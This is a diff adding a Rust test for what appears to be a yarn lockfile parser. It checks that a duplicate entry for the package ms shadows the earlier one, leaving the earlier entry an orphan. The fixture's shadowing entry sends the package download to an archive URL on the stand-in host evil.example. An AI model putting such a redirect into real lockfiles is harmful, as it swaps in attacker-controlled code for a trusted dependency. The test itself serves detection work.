@@ -458,3 +458,19 @@ proptest! {
         let _ = parse_text(&format!("{HEADER}{text}"), None);
     }
 }
+
+#[test]
+fn a_shadowing_duplicate_wins_and_the_shadowed_entry_is_an_orphan() {
+    let text = format!(
+        "{HEADER}\"ms@npm:^2.1.3\":\n  version: 2.1.3\n  resolution: \"ms@npm:2.1.3\"\n\n\"ms@npm:^2.1.3\":\n  version: 2.1.3\n  resolution: \"ms@npm:2.1.3::__archiveUrl=https%3A%2F%2Fevil.example%2Fms%2F-%2Fms-2.1.3.tgz\"\n\n\"root@workspace:.\":\n  version: 0.0.0-use.local\n  resolution: \"root@workspace:.\"\n  dependencies:\n    ms: \"npm:^2.1.3\"\n"
+    );
+    let g = parse_text(&text, None).unwrap();
+    let target = g.importers[0].dependencies[0].target.unwrap();
+    assert_eq!(g.package(target).location.line, 9);
+    let orphans: Vec<u32> = g
+        .unreachable()
+        .iter()
+        .map(|&id| g.package(id).location.line)
+        .collect();
+    assert_eq!(orphans, vec![5]);
+}
